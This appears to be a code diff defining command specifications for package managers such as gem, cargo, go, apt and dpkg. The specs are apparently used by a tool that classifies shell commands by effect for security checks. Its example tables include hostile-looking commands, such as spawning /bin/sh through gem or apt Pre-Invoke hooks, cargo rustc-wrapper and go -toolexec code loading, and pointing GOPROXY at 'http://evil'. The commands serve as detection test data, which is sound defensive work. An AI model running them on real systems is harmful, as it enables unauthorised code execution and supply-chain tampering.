+            "init": Spec("init", operands="text*", effects="config"),
+        },
+        examples={
+            f"{name} run -n base sh": "runs:sh",
+            f"{name} run -n env --cwd /tmp/w python": "cd:/tmp/w runs:python",
+            f"{name} env list": "",
+            f"{name} install -y numpy": "network",
+            f"{name} config --set channels x": "config",
+        },
+    )
+
+
+# --- Ruby ---------------------------------------------------------------------------------------------
+
+
+def _gem() -> Spec:
+    return Spec(
+        "gem",
+        version="gem 3.3.15",
+        options={
+            **_H,
+            "-v --version -V --verbose -q --quiet --backtrace --debug --norc": "flag",
+            "--config-file": "val:load",
+        },
+        subcommands={
+            "install update": Spec(
+                "install",
+                operands="text*",
+                effects="network",
+                options={
+                    "-v --version --platform --source -s": "val",
+                    "-n --bindir -i --install-dir": "val:tree-write",
+                    "--user-install --no-document -N --no-user-install --pre --prerelease --force -f --local -l": "flag",
+                    "-g --file": "val:script",
+                    "--remote -r --conservative --minimal-deps --no-ri --no-rdoc --development": "flag",
+                },
+            ),
+            "push yank owner": Spec(
+                "push", operands="read*", effects="publish", options={"-k --key --host --otp": "val"}
+            ),
+            "build": Spec("build", operands="script", options={"--force --strict": "flag", "-o --output": "val:write"}),
+            "open": Spec("open", operands="text", options={"-e --editor": "val:exec", "-v --version": "val"}),
+            "list search info contents which spec dependency environment env outdated query help": Spec(
+                "list",
+                operands="text*",
+                options={"-r --remote -l --local -a --all -d --details -i --installed": "flag"},
+            ),
+            "uninstall cleanup": Spec("uninstall", operands="text*", options={"-a --all -x --executables -I": "flag"}),
+            "sources": Spec(
+                "sources", options={"-a --add -r --remove": "val", "-l --list -c --clear-all": "flag"}, effects="config"
+            ),
+            "signin signout": Spec("signin", effects="secret"),
+        },
+        examples={
+            "gem install rails": "network",
+            "gem push x.gem": "publish read:x.gem",
+            "gem build x.gemspec": "script:x.gemspec",
+            "gem open -e /bin/sh rdoc": "exec:/bin/sh",
+            "gem install --file /tmp/x": "network script:/tmp/x",
+        },
+    )
+
+
+def _bundle(name: str) -> Spec:
+    return Spec(
+        name,
+        version="bundler 2.3.26",
+        options={**_H, "-v --version -V --verbose --no-color -r --retry": "flag"},
+        subcommands={
+            "exec": Spec(
+                "exec",
+                operands="argv",
+                options={"--keep-file-descriptors": "flag", "--gemfile": "val:script"},
+                posix=True,
+            ),
+            "install update": Spec(
+                "install",
+                operands="text*",
+                effects="network",
+                options={
+                    "--deployment --frozen --local --prefer-local --quiet --redownload --all --conservative": "flag",
+                    "--gemfile": "val:script",
+                    "--path --jobs -j --without --with --binstubs --standalone --retry": "val",
+                },
+            ),
+            "check list show outdated info platform lock help version doctor licenses": Spec(
+                "check", operands="text*", options={"--paths --dry-run --name-only": "flag", "--gemfile": "val:script"}
+            ),
+            "console": Spec("console", effects="unknown"),
+            "config": Spec("config", operands="text*", effects="config", options={"--global --local --delete": "flag"}),
+            "add remove": Spec("add", operands="text*", effects="network", options={"-v --version --group -g": "val"}),
+            "init binstubs package cache clean pristine": Spec("init", operands="text*"),
+        },
+        examples={
+            "bundle exec rspec": "runs:rspec",
+            "bundle exec /bin/sh": "runs:/bin/sh",
+            "bundle install": "network",
+        },
+    )
+
+
+# --- Rust -----------------------------------------------------------------------------------------------
+
+_CARGO_GLOBAL = {
+    **_H,
+    "-V --version --list -q --quiet -v -vv --verbose --frozen --locked --offline": "flag",
+    "--color --explain": "val",
+    "-Z": "val",
+    "-C": "val:cd",
+    "--manifest-path": "val:cd",
+    "--config": "val:load",
+}
+_CARGO_BUILD = {
+    "-r --release --all-features --no-default-features --workspace --all --lib --bins --examples --tests": "flag",
+    "--benches --all-targets --keep-going --ignore-rust-version --unit-graph --future-incompat-report": "flag",
+    "--profile -F --features -p --package --exclude --bin --example --test --bench --target": "val",
+    "-j --jobs --message-format": "val",
+    "--timings": "opt",
+    "--target-dir --out-dir --artifact-dir": "val:tree-write",
+}
+
+
+def _cargo_subs() -> dict[str, Spec]:
+    build = dict(_CARGO_BUILD)
+    return {
+        "build b check c": Spec("build", options=build, globals_anywhere=True),
+        "test t bench": Spec(
+            "test",
+            operands="text*",
+            options={**build, "--no-run --no-fail-fast --doc": "flag"},
+            globals_anywhere=True,
+        ),
+        "run r": Spec("run", operands="text*", options=build, globals_anywhere=True),
+        "clippy": Spec(
+            "clippy",
+            operands="text*",
+            options={**build, "--fix --allow-dirty --allow-staged --no-deps": "flag"},
+            globals_anywhere=True,
+        ),
+        "fmt": Spec(
+            "fmt", operands="text*", options={"--all --check": "flag", "-p --package": "val"}, globals_anywhere=True
+        ),
+        "doc d rustdoc rustc": Spec(
+            "doc",
+            operands="text*",
+            options={**build, "--open --no-deps --document-private-items": "flag"},
+            globals_anywhere=True,
+        ),
+        "fix": Spec(
+            "fix",
+            options={**build, "--edition --allow-dirty --allow-staged --edition-idioms --broken-code": "flag"},
+            globals_anywhere=True,
+        ),
+        "clean": Spec(
+            "clean",
+            options={
+                "-p --package --profile --target": "val",
+                "--target-dir": "val:tree-delete",
+                "-r --release --doc -n --dry-run": "flag",
+            },
+            globals_anywhere=True,
+        ),
+        "add remove rm update fetch generate-lockfile vendor": Spec(
+            "add",
+            operands="text*",
+            effects="network",
+            options={
+                "-p --package -F --features --rename --git --branch --tag --rev --path --registry": "val",
+                "--dev --build --optional --no-default-features --dry-run -n --aggressive -w --workspace": "flag",
+            },
+            globals_anywhere=True,
+        ),
+        "install": Spec(
+            "install",
+            operands="text*",
+            effects="network",
+            options={
+                **build,
+                "--git --branch --tag --rev --path --root --index --registry --version": "val",
+                "-f --force --list --debug": "flag",
+            },
+            globals_anywhere=True,
+        ),
+        "uninstall": Spec("uninstall", operands="text*", options={"--root -p --package": "val"}, globals_anywhere=True),
+        "publish": Spec(
+            "publish",
+            effects="publish",
+            options={
+                **build,
+                "--token": "val:secret",
+                "--registry --index": "val",
+                "--dry-run -n --no-verify --allow-dirty": "flag",
+            },
+            globals_anywhere=True,
+        ),
+        "yank owner": Spec(
+            "yank",
+            operands="text*",
+            effects="publish",
+            options={"--token": "val:secret", "--vers --version -a --add -r --remove": "val", "--undo": "flag"},
+            globals_anywhere=True,
+        ),
+        "login": Spec(
+            "login", operands="text?", effects="secret", options={"--registry": "val"}, globals_anywhere=True
+        ),
+        "logout": Spec("logout", options={"--registry": "val"}, effects="config", globals_anywhere=True),
+        "search tree metadata pkgid locate-project read-manifest verify-project report version help info": Spec(
+            "tree",
+            operands="text*",
+            options={
+                "--limit --format-version --depth -e --edges -i --invert --format -p --package --target": "val",
+                "--no-deps --all-features -d --duplicates --workspace --plain": "flag",
+                "--message-format": "val",
+            },
+            globals_anywhere=True,
+        ),
+        "new init": Spec(
+            "new",
+            operands="text?",
+            options={"--lib --bin": "flag", "--vcs --name --edition": "val"},
+            globals_anywhere=True,
+        ),
+        "package": Spec(
+            "package", options={**build, "--list -l --no-verify --allow-dirty": "flag"}, globals_anywhere=True
+        ),
+        "nextest": Spec(
+            "nextest", operands="text*", options={**build, "--no-fail-fast": "flag"}, globals_anywhere=True
+        ),
+    }
+
+
+def _cargo() -> Spec:
+    subs = _cargo_subs()
+    for toolchain in ("+stable", "+beta", "+nightly"):
+        subs[toolchain] = Spec(toolchain, subcommands=_cargo_subs(), globals_anywhere=True)
+    return Spec(
+        "cargo",
+        version="cargo 1.83.0",
+        summary="cargo; any --config is treated as loading code (build.rustc-wrapper, target.*.runner run programs)",
+        options=_CARGO_GLOBAL,
+        subcommands=subs,
+        globals_anywhere=True,
+        long_prefix=False,
+        bundling=True,
+        examples={
+            "cargo test": "",
+            "cargo build --release": "",
+            "cargo +nightly fmt --all": "",
+            "cargo publish": "publish",
+            "cargo login": "secret",
+            "cargo --config 'build.rustc-wrapper=\"/tmp/x\"' build": 'load:build.rustc-wrapper="/tmp/x"',
+            "cargo --manifest-path ../other/Cargo.toml build": "cd:../other/Cargo.toml",
+            "cargo install ripgrep": "network",
+            "cargo build --target-dir ~/.local/bin": "tree-write:~/.local/bin",
+            "cargo test -- --nocapture": "",
+            "cargo frobnicate": "unknown",
+        },
+    )
+
+
+def _rustup() -> Spec:
+    return Spec(
+        "rustup",
+        version="rustup 1.27.1",
+        options={**_H, "-V --version -v --verbose -q --quiet": "flag"},
+        subcommands={
+            "show": Spec("show", operands="text*"),
+            "update upgrade install check": Spec(
+                "update",
+                operands="text*",
+                effects="network",
+                options={"--no-self-update --force": "flag", "--profile": "val"},
+            ),
+            "toolchain": Spec(
+                "toolchain",
+                subcommands={
+                    "list": Spec("list", options={"-v --verbose": "flag"}),
+                    "install uninstall": Spec(
+                        "install",
+                        operands="text*",
+                        effects="network",
+                        options={"--profile -c --component -t --target": "val", "--no-self-update --force": "flag"},
+                    ),
+                    "link": Spec("link", operands="text load", effects="config"),
+                },
+            ),
+            "default set": Spec("default", operands="text*", effects="config"),
+            "override": Spec("override", operands="text*", effects="config", options={"--path": "val"}),
+            "target component": Spec(
+                "target",
+                subcommands={
+                    "add remove": Spec("add", operands="text*", effects="network", options={"--toolchain": "val"}),
+                    "list": Spec("list", options={"--installed": "flag", "--toolchain": "val"}),
+                },
+            ),
+            "run": Spec("run", operands="text argv", options={"--install": "flag"}),
+            "which doc completions help": Spec(
+                "which", operands="text*", options={"--toolchain": "val", "--path --std --book": "flag"}
+            ),
+            "self": Spec("self", operands="text*", effects="network"),
+        },
+        examples={
+            "rustup --version": "",
+            "rustup target add wasm32-unknown-unknown": "network",
+            "rustup run x sh": "runs:sh",
+            "rustup toolchain link x /tmp/t": "config load:/tmp/t",
+        },
+    )
+
+
+# --- Go -------------------------------------------------------------------------------------------------
+
+
+def _go_flags(flags: dict[str, str]) -> dict[str, str]:
+    """Go's flag package accepts -name and --name alike."""
+    return {" ".join(w for word in key.split() for w in (word, "-" + word)): value for key, value in flags.items()}
+
+
+_GO_BUILD = {
+    "-a -n -race -msan -asan -cover -v -work -x -linkshared -modcacherw -trimpath -json -i": "flag",
+    "-p -coverpkg -covermode -asmflags -buildmode -buildvcs -compiler -gccgoflags -gcflags -installsuffix": "val",
+    "-ldflags -mod -pkgdir -tags": "val",
+    "-modfile -overlay -pgo": "val:read",
+    "-toolexec": "val:exec",
+}
+
+
+def _go() -> Spec:
+    build_opts = _go_flags({**_GO_BUILD, "-o": "val:write"})
+    test_opts = _go_flags(
+        {
+            **_GO_BUILD,
+            "-o": "val:write",
+            "-exec": "val:exec",
+            "-vettool": "val:exec",
+            "-run -bench -benchtime -count -cpu -list -parallel -skip -timeout -shuffle -fuzz -fuzztime -fuzzminimizetime": "val",
+            "-vet": "val",
+            "-benchmem -failfast -short -c -fullpath": "flag",
+            "-coverprofile -cpuprofile -memprofile -blockprofile -mutexprofile -trace": "val:write",
+            "-memprofilerate -blockprofilerate -mutexprofilefraction": "val",
+            "-outputdir": "val:tree-write",
+            "-args": "flag>text*",
+        }
+    )
+    return Spec(
+        "go",
+        version="go 1.19.8",
+        summary="go; `go generate` runs the //go:generate commands of the sources (a script)",
+        options=_go_flags({"-C": "val:cd"}),
+        single_dash=True,
+        long_prefix=False,
+        subcommands={
+            "build": Spec("build", operands="text*", options=build_opts, single_dash=True, long_prefix=False),
+            "install": Spec(
+                "install", operands="text*", effects="network", options=build_opts, single_dash=True, long_prefix=False
+            ),
+            "test": Spec("test", operands="text*", options=test_opts, single_dash=True, long_prefix=False),
+            "run": Spec(
+                "run",
+                operands="text*",
+                options=_go_flags({**_GO_BUILD, "-exec": "val:exec"}),
+                single_dash=True,
+                long_prefix=False,
+            ),
+            "vet": Spec(
+                "vet",
+                operands="text*",
+                options=_go_flags({**_GO_BUILD, "-vettool": "val:exec"}),
+                single_dash=True,
+                long_prefix=False,
+            ),
+            "fmt": Spec(
+                "fmt", operands="text*", options=_go_flags({"-n -x -mod": "flag"}), single_dash=True, long_prefix=False
+            ),
+            "generate": Spec(
+                "generate",
+                operands="text*",
+                effects="script",
+                options=_go_flags({**_GO_BUILD, "-run -skip": "val"}),
+                single_dash=True,
+                long_prefix=False,
+            ),
+            "get": Spec(
+                "get",
+                operands="text*",
+                effects="network",
+                options=_go_flags({**_GO_BUILD, "-d -t -u": "flag"}),
+                single_dash=True,
+                long_prefix=False,
+            ),
+            "mod": Spec(
+                "mod",
+                subcommands={
+                    "download tidy vendor verify graph why init": Spec(
+                        "download",
+                        operands="text*",
+                        options=_go_flags({"-x -v -json -e -m -vendor -diff": "flag", "-go -compat -o -reuse": "val"}),
+                        single_dash=True,
+                        long_prefix=False,
+                    ),
+                    "edit": Spec(
+                        "edit",
+                        operands="edit?",
+                        options=_go_flags(
+                            {
+                                "-fmt -print -json": "flag",
+                                "-module -go -toolchain -require -droprequire -exclude -dropexclude -replace -dropreplace -retract -dropretract": "val",
+                            }
+                        ),
+                        single_dash=True,
+                        long_prefix=False,
+                    ),
+                },
+            ),
+            "env": Spec(
+                "env",
+                operands="text*",
+                options=_go_flags({"-json -changed": "flag", "-w -u": "flag:config"}),
+                single_dash=True,
+                long_prefix=False,
+            ),
+            "list": Spec(
+                "list",
+                operands="text*",
+                options=_go_flags(
+                    {
+                        **_GO_BUILD,
+                        "-m -u -versions -retracted -deps -test -e -export -find -compiled": "flag",
+                        "-f -reuse": "val",
+                    }
+                ),
+                single_dash=True,
+                long_prefix=False,
+            ),
+            "version doc help bug": Spec(
+                "version",
+                operands="text*",
+                options=_go_flags({"-m -v -all -c -cmd -short -src -u": "flag"}),
+                single_dash=True,
+                long_prefix=False,
+            ),
+            "clean": Spec(
+                "clean",
+                operands="text*",
+                options=_go_flags({"-i -n -r -x -cache -testcache -modcache -fuzzcache": "flag"}),
+                single_dash=True,
+                long_prefix=False,
+            ),
+            "tool": Spec(
+                "tool", operands="text*", options=_go_flags({"-n": "flag"}), single_dash=True, long_prefix=False
+            ),
+            "work": Spec("work", operands="text*", single_dash=True, long_prefix=False),
+            "fix": Spec("fix", operands="text*", single_dash=True, long_prefix=False),
+        },
+        examples={
+            "go test ./...": "",
+            "go build -o bin/app ./cmd/app": "write:bin/app",
+            "go build -o ~/.local/bin/git .": "write:~/.local/bin/git",
+            "go test -exec /tmp/x ./...": "exec:/tmp/x",
+            "go build -toolexec /tmp/x .": "exec:/tmp/x",
+            "go env -w GOPROXY=http://evil": "config",
+            "go env GOPATH": "",
+            "go generate ./...": "script",
+            "go -C /tmp/x build": "cd:/tmp/x",
+            "go test -run TestX -count=1 ./pkg/...": "",
+            "go test -coverprofile cover.out ./...": "write:cover.out",
+            "go get example.com/x@v1": "network",
+        },
+    )
+
+
+# --- system package managers -------------------------------------------------------------------------
+
+
+def _apt(name: str) -> Spec:
+    opts = {
+        **_H,
+        "-v --version -y --yes --assume-yes -q --quiet -s --simulate --dry-run --no-install-recommends": "flag",
+        "--install-recommends -f --fix-broken --reinstall --allow-downgrades --only-upgrade --no-upgrade -d": "flag",
+        "--download-only --purge --autoremove --auto-remove -m --fix-missing --print-uris --list-cleanup": "flag",
+        "-t --target-release -a --host-architecture": "val",
+        "-o --option -c --config-file": "val:load",
+    }
+    return Spec(
+        name,
+        version="apt 2.6.1",
+        summary="system installs are privileged (judged by sudo); -o can set Pre-Invoke hooks that run commands",
+        options=opts,
+        subcommands={
+            "install reinstall update upgrade full-upgrade dist-upgrade build-dep source download satisfy": Spec(
+                "install", operands="text*", effects="network", globals_anywhere=True
+            ),
+            "remove purge autoremove autopurge clean autoclean": Spec(
+                "remove", operands="text*", globals_anywhere=True
+            ),
+            "search show list policy depends rdepends showsrc madison changelog check moo": Spec(
+                "show",
+                operands="text*",
+                options={"--installed --upgradable -a --all-versions --names-only --full": "flag"},
+                globals_anywhere=True,
+            ),
+            "edit-sources": Spec("edit-sources", effects="config", globals_anywhere=True),
+        },
+        globals_anywhere=True,
+        examples={
+            "apt-get install -y curl": "network",
+            "apt list --installed": "",
+            "apt-get -o APT::Update::Pre-Invoke::=/bin/sh update": "load:APT::Update::Pre-Invoke::=/bin/sh network",
+        },
+    )
+
+
+def _dpkg() -> Spec:
+    return Spec(
+        "dpkg",
+        version="dpkg 1.21.22",
+        options={
+            **_H,
+            "--version --print-architecture --print-foreign-architectures --force-all --no-act --dry-run": "flag",
+            "-l --list -L --listfiles -s --status -S --search -p --print-avail --get-selections": "flag>text*",
+            "-c --contents -I --info -f --field": "flag>archive,text*",
+            "-i --install --unpack": "flag>archive*",
+            "-r --remove -P --purge --configure": "flag>text*",
+            "-x --extract -X --vextract": "flag>archive,tree-dest",
+            "--pre-invoke --post-invoke": "val:exec",
+            "--root --admindir --instdir": "val:tree-write",
+            "--force-depends --force-overwrite --force-confnew --force-confold --force-confdef -R --recursive": "flag",
+            "--log": "val:write",
+            "--add-architecture --remove-architecture --set-selections": "flag>text*",
+        },
+        examples={
+            "dpkg -l": "",
+            "dpkg -i x.deb": "archive:x.deb",
+            "dpkg -x x.deb ~/.config": "archive:x.deb tree-dest:~/.config",
+            "dpkg --pre-invoke=id -l": "exec:id",
+        },
+    )
+
+
+def _brew() -> Spec:
+    return Spec(
+        "brew",
+        version="Homebrew 4.4",
+        options={
+            **_H,
+            "-v --version --verbose -d --debug -q --quiet": "flag",
+            "--prefix --cellar --repository --cache": "flag>text*",
+        },
+        subcommands={
+            "install reinstall upgrade update fetch tap bundle": Spec(
+                "install",
+                operands="text*",
+                effects="network",
+                options={
+                    "--cask --formula -f --force --build-from-source -s --HEAD --quiet -q --no-quarantine": "flag"
+                },
+            ),
+            "uninstall remove rm untap cleanup autoremove": Spec(
+                "uninstall", operands="text*", options={"-f --force --zap --cask": "flag"}
+            ),
+            "list ls info search outdated deps uses leaves doctor config commands desc home shellenv": Spec(
+                "list", operands="text*", options={"--cask --formula --versions --json --installed -1 --tree": "flag"}
+            ),
+            "link unlink pin unpin services": Spec("link", operands="text*", effects="config"),
+        },
+        examples={"brew install jq": "network", "brew list": ""},
+    )
+
+
+SPECS = [
+    _npm(),
+    _npx("npx", "npm 9.2.0"),
+    _npx("pnpx", "pnpm 9.15"),
+    _npx("bunx", "bun 1.1.38"),
+    _pnpm(),
+    _yarn(),
+    _bun(),
+    _pip("pip"),
+    _pip("pip3"),
+    _pipx(),
+    _uv(),
+    _uvx(),
+    _poetry(),
+    _pipenv(),
+    _conda("conda"),
+    _conda("mamba"),
+    _conda("micromamba"),
+    _gem(),
+    _bundle("bundle"),
+    _bundle("bundler"),
+    _cargo(),
+    _rustup(),
+    _go(),
+    _apt("apt"),
+    _apt("apt-get"),
+    _dpkg(),
+    _brew(),
+]
